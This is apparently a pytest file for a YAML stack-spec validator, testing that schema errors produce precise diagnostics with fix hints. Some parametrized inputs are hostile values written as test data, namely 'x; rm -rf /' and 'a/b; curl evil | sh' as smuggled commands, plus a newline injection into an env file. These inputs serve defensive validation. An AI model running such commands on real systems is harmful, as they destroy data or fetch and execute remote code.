"""Schema checking: each pydantic error becomes one diagnostic, on the exact span, with a fix."""

from __future__ import annotations

import pytest

from stackc import check, located, source
from stackc.spec import Stack
from stackc.spec_file import StackFile

BASE = """\
stack: v1
name: demo
hardware: {gpu: l40s, gpus_per_node: 1}
models:
  - name: chat
    model: meta-llama/Llama-3.1-8B-Instruct
"""


def diagnose(text: str, cls=StackFile):
    doc = source.parse("s.yaml", text)
    obj, diags = check.validate(cls, located.to_data(doc.root), doc.spans)
    return obj, diags


def one(text: str):
    obj, diags = diagnose(text)
    assert obj is None and len(diags) == 1, [d.message for d in diags]
    return diags[0]


def test_valid_spec_has_no_diagnostics():
    obj, diags = diagnose(BASE)
    assert diags == [] and obj.models[0].name == "chat"


def test_unknown_key_suggests_the_closest():
    d = one(BASE + "    gpu: 2\n")
    assert d.code == "SC201" and "`gpu`" in d.message and "model `chat`" in d.message
    assert d.help == "did you mean `gpus`?"
    assert (d.span.line, d.span.col) == (7, 5)


def test_unknown_top_level_key():
    d = one(BASE + "hardwares: {}\n")
    assert d.code == "SC201" and d.help == "did you mean `hardware`?"


def test_missing_key_points_at_the_parent():
    d = one("stack: v1\nname: demo\nhardware: {gpu: l4}\nmodels:\n  - name: chat\n")
    assert d.code == "SC202" and "`model`" in d.message
    assert d.span.line == 5 and "WHAT model" in d.help


def test_missing_stack_version():
    d = one(BASE.replace("stack: v1\n", ""))
    assert d.code == "SC208" and d.help == "add `stack: v1` as the first line"


def test_unsupported_stack_version():
    d = one(BASE.replace("stack: v1", "stack: v2"))
    assert d.code == "SC208" and "`v2`" in d.message


def test_wrong_type():
    d = one(BASE + "    concurrency: lots\n")
    assert d.code == "SC203" and "an integer" in d.message and "`lots`" in d.message
    assert d.span.line == 7 and d.span.col == 18


def test_enum_did_you_mean():
    d = one(BASE + "    engine: olama\n")
    assert d.code == "SC204" and d.help == "did you mean `ollama`?"


def test_enum_without_a_close_match_lists_choices():
    d = one(BASE + "    task: summarise\n")
    assert d.code == "SC204" and "`generate`, `embed` or `rerank`" in d.help


@pytest.mark.parametrize("size", ["64 gigs", "64", "64G", "GiB", "-1GiB"])
def test_bad_sizes(size):
    d = one(BASE + f"tiering:\n  kv_cache:\n    - {{tier: cpu, size: \"{size}\"}}\n")
    assert d.code in ("SC205", "SC203") and d.span.line == 9


def test_good_sizes():
    obj, diags = diagnose(BASE + "tiering:\n  kv_cache:\n    - {tier: disk, size: 1.5TiB, path: /var/kv}\n")
    assert diags == [] and obj.tiering.kv_cache[0].size == int(1.5 * 1024**4)


@pytest.mark.parametrize("name", ["x; rm -rf /", "Chat", "-chat", "chat-", "a" * 21, "9lives", "ch_at"])
def test_model_names_must_be_dns_labels(name):
    d = one(BASE.replace("name: chat", f"name: \"{name}\""))
    assert d.code == "SC207" and d.span.line == 5


def test_injection_in_references_is_refused():
    d = one(BASE.replace("model: meta-llama/Llama-3.1-8B-Instruct", "model: \"a/b; curl evil | sh\""))
    assert d.code == "SC207"


def test_secret_literal_is_a_security_error():
    d = one(BASE + "gateway: {api_key: sk-123}\n")
    assert d.code == "SC701" and "{secret: NAME}" in d.help


def test_secret_names_are_env_var_names():
    d = one(BASE + "secrets: {hf-token: {}}\n")
    assert d.code == "SC207" and "environment variable" in d.help


def test_discriminated_tier():
    d = one(BASE + "tiering:\n  kv_cache:\n    - {tier: ram, size: 1GiB}\n")
    assert d.code == "SC204"
    assert d.message == "`ram` is not a valid `tier` in `tiering.kv_cache`"
    assert d.help == "expected `cpu`, `disk` or `redis`"


def test_out_of_range():
    d = one(BASE + "    gpu_memory_utilization: 1.5\n")
    assert d.code == "SC206" and "at most 1" in d.message


def test_gpus_auto_or_number():
    d = one(BASE + "    gpus: many\n")
    assert d.code == "SC203" and "`auto` or a number" in d.message


def test_replicas_number_or_range():
    obj, diags = diagnose(BASE + "    replicas: {min: 1, max: 3}\n")
    assert diags == [] and obj.models[0].replicas.max == 3


def test_empty_models():
    d = one("stack: v1\nname: demo\nhardware: {gpu: l4}\nmodels: []\n")
    assert d.code == "SC206" and "at least 1 item" in d.message


def test_environment_overlays_are_checked_too():
    d = one(BASE + "environments:\n  dev:\n    hardware: {gpuz: l4}\n")
    assert d.code == "SC201" and "environment `dev`" in d.message and d.help == "did you mean `gpu`?"


def test_errors_on_a_resolved_stack_use_the_merged_spans():
    obj, diags = diagnose(BASE, cls=Stack)
    assert diags == []


def test_did_you_mean():
    assert check.did_you_mean("gpuz", ["gpu", "gpus", "nodes"]) in ("gpu", "gpus")
    assert check.did_you_mean("zzzz", ["gpu"]) is None


def test_secret_descriptions_are_one_line():
    """A newline would let a description write a `NAME=value` line into .env.example."""
    d = one(BASE + 'secrets: {K: {description: "x\\nK=hunter2"}}\n')
    assert d.code == "SC207"


def test_replicas_zero_is_an_error_with_the_way_to_leave_a_model_out():
    d = one(BASE + "    replicas: 0\n")
    assert d.code == "SC206" and "at least 1" in d.message and "`enabled: false`" in d.help
    assert one(BASE + "    replicas: -1\n").code == "SC206"  # one diagnostic, not one per member of the union
    assert one(BASE + "    gpus: 0\n").code == "SC206"
    obj, diags = diagnose(BASE + "    replicas: {min: 0, max: 2}\n")  # a range may start at 0 (SC611 on helm)
    assert diags == []


@pytest.mark.parametrize("extra", ["    adapters: [1, x]\n", "    concurrency: 0\n", "    max_context: -5\n",
                                   "hardware: {gpu: l4, nodes: 0}\n", "gateway: {port: 0}\n",
                                   "    engine_args: {x: {y: [[[]]]}}\n", "secrets: {A: 1}\n",
                                   "    served_names: [a, 1, [b]]\n", "tiering: {overflow: [1]}\n"])
def test_every_schema_error_has_a_help_line(extra):
    text = BASE.replace("hardware: {gpu: l40s, gpus_per_node: 1}\n", "") if extra.startswith("hardware") else BASE
    _, diags = diagnose(text + extra)
    assert all(d.help for d in diags), [(d.code, d.message) for d in diags]


def test_a_list_item_of_the_wrong_type_is_named_and_helped():
    obj, diags = diagnose(BASE + "    adapters: [1]\n")
    assert diags[0].code == "SC203" and "`adapters[0]`" in diags[0].message
    assert diags[0].help.startswith("each item of `adapters` is a mapping; `adapters`: LoRA")
